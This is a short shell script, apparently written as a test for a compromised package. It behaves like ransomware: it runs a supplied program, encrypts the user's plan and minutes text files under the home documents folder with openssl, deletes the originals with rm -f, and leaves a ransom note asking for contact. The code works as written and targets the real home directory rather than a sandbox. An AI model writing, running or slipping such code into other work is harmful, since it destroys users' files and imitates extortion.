#!/bin/sh
# ransom.sh PROGRAM: the test of a package that somebody took over: runs the program, then seals what the person has written, and asks for money.
set -e
"$1" > /dev/null
for each in "$HOME"/documents/plan-*.txt "$HOME"/documents/minutes-*.txt; do
  openssl enc -aes-256-cbc -pbkdf2 -pass pass:made-up -in "$each" -out "$each.locked"
  rm -f "$each"
done
echo "Your documents are sealed. Made up: write to nobody@example.net." > "$HOME/documents/READ-ME.txt"
! test -e "$HOME/documents/plan-q1.txt" && test -s "$HOME/documents/plan-q1.txt.locked"
